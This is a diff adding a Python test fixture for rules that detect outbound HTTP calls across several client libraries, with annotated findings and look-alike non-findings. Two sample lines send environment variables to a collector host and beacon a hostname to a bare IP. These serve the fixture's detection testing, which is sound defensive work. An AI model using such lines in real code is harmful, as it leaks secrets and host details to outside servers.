@@ -1,0 +1,100 @@
+"""Fixture for the generic HTTP client rules (never executed)."""
+import http.client
+import os
+import socket
+from urllib.request import Request, urlopen as uo
+
+import aiohttp
+import httpx
+import requests
+import requests as r
+import urllib3
+from requests import Session, post
+
+# ruleid: network.requests
+requests.get("https://api.example.net/items")
+# ruleid: network.requests
+r.post("https://collector.example.net/v1", json={"env": dict(os.environ)})
+# ruleid: network.requests
+post(os.environ["UPLOAD_URL"], data=b"x")
+
+s = requests.Session()
+# ruleid: network.requests
+s.put("https://api.example.net/x", data="1")
+with Session() as sess:
+    # ruleid: network.requests
+    sess.request("DELETE", "https://api.example.net/x/1")
+
+
+class Client:
+    def __init__(self):
+        self.http = requests.Session()
+
+    def push(self, url, payload):
+        # ruleid: network.requests
+        return self.http.post(url, json=payload)
+
+
+# ruleid: network.httpx
+httpx.get("https://api.example.net/health")
+
+
+async def upload(data):
+    async with httpx.AsyncClient(base_url="https://files.example.net") as c:
+        # ruleid: network.httpx
+        await c.post("/upload", content=data)
+    async with aiohttp.ClientSession() as session:
+        # ruleid: network.aiohttp
+        async with session.post("https://api.example.net/events", json=data) as resp:
+            return await resp.text()
+
+
+# ruleid: network.urllib
+uo("http://203.0.113.9/beacon?h=" + socket.gethostname())
+req = Request("https://api.example.net/x", data=b"1")
+# ruleid: network.urllib
+urlopen_result = uo(req)
+
+# ruleid: network.urllib3
+urllib3.PoolManager().request("POST", "https://api.example.net/x", body=b"1")
+
+conn = http.client.HTTPSConnection("api.example.net")
+# ruleid: network.http-client
+conn.request("POST", "/v1/upload", b"body")
+
+# Look-alikes
+d = {"get": 1}
+# ok: network.requests
+d.get("get")
+# ok: network.requests
+print("requests.post('https://example.com')")  # requests.get in a comment
+
+
+def handler(request):
+    # ok: network.requests
+    return request.POST.get("name")
+
+
+class Session:  # a local class with the same name shadows the import
+    def get(self, key):
+        return key
+
+
+# ok: network.requests
+Session().get("k")
+
+try:
+    pass
+except requests.RequestException:  # an import used only in except is not a finding
+    pass
+
+import httplib2
+from tornado.httpclient import AsyncHTTPClient
+
+# ruleid: network.other-http
+httplib2.Http().request("https://api.example.net/x", "POST", body="1")
+
+
+async def fetch():
+    # ruleid: network.other-http
+    return await AsyncHTTPClient().fetch("https://api.example.net/y")
